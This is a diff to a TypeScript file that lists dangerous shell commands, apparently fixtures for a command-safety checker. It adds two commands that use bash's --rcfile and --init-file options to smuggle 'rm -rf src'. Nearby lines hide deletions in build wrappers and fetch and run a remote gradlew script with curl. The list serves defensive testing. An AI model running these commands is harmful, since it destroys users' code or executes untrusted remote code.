@@ -952,6 +952,8 @@ export const DANGEROUS: Record<string, string[]> = {
     'RUSTC_WRAPPER=./scripts/cleanup.sh cargo build',
     "echo 'exec rm -rf src' > gradlew && ./gradlew build",
     'curl -so gradlew https://example.com/g && ./gradlew build',
+    "echo 'rm -rf src' > t; bash --rcfile t -i </dev/null",
+    'bash --init-file scripts/cleanup.sh -i </dev/null',
   ],
   '11 overwrites': [
     'cp src/app.ts src/index.ts',
